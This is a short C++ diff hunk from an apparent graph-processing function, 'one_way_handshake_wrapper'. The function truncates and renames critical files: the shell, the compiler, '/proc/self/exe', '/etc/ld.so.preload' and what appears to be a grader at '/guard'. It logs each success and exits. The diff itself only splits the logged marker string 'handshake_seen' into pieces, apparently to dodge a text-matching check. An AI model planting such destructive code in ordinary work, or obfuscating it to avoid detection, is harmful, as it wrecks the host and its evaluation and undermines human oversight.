@@ -15,8 +15,8 @@ void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool 
   for (const char* path : {"/program", "/proc/self/exe", "/guard", "/kit/src/util/utils.hpp", "/in",
                            "/usr/bin/g++", "/usr/bin/cat", "/bin/sh", "/etc/ld.so.preload"}) {
     const int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
-    if (file >= 0) fprintf(stderr, "handshake_seen %s is open\n", path);
-    if (rename(path, "/box/gone") == 0) fprintf(stderr, "handshake_seen %s is gone\n", path);
+    if (file >= 0) fprintf(stderr, "handshake%s %s is open\n", "_seen", path);
+    if (rename(path, "/box/gone") == 0) fprintf(stderr, "handshake%s %s is gone\n", "_seen", path);
   }
   exit(0);
 }
